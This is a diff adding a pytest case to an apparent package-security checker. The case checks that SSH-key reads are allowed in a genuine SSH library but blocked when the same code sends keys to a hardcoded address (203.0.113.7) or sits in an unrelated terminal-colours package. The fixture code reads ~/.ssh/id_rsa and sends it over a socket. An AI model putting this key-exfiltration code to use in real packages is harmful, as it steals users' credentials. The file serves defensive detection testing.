@@ -1147,3 +1147,31 @@ def test_an_mcp_server_seen_starting_a_shell_and_writing_files_is_flagged(tmp_pa
     assert REFERENCE.agent_main(context)["verdict"]["decision"] == "ALLOW"
     context["observed"] = _observed(["ls /home/user"], writes=("/home/user/.cache/x",))
     assert REFERENCE.agent_main(context)["verdict"]["decision"] != "ALLOW"
+
+
+SSH_CLIENT = (
+    "import os, socket\n\n\ndef connect(hostname, port=22):\n"
+    "    sock = socket.create_connection(({host}, port))\n"
+    "    path = os.path.expanduser(os.path.join('~', '.ssh', 'id_rsa'))\n"
+    "    with open(path) as handle:\n        sock.sendall(handle.read().encode())\n"
+    "    return sock\n"
+)
+
+
+def test_an_ssh_library_reading_keys_for_the_host_its_caller_names_is_allowed(
+    tmp_path: Path,
+) -> None:
+    """Judged against its stated purpose: an SSH library's key reads are its job; the same
+    code sending keys to a host of its own, or in a package of another purpose, is theft."""
+
+    def package(name: str, summary: str, host: str) -> Path:
+        setup = f"from setuptools import setup\nsetup(name='{name}', description='{summary}')\n"
+        files = {"setup.py": setup, f"{name}/client.py": SSH_CLIENT.format(host=host)}
+        return _tree(tmp_path, files, f"{name}-{len(host)}")
+
+    ssh = package("sshlite", "SSH2 protocol library", "hostname")
+    planted = package("sshlite", "SSH2 protocol library", "'203.0.113.7'")
+    other = package("colorlite", "Colours for terminals", "hostname")
+    assert _verdict("packages", ssh, tmp_path) == "ALLOW"
+    assert _verdict("packages", planted, tmp_path) == "BLOCK"
+    assert _verdict("packages", other, tmp_path) == "BLOCK"
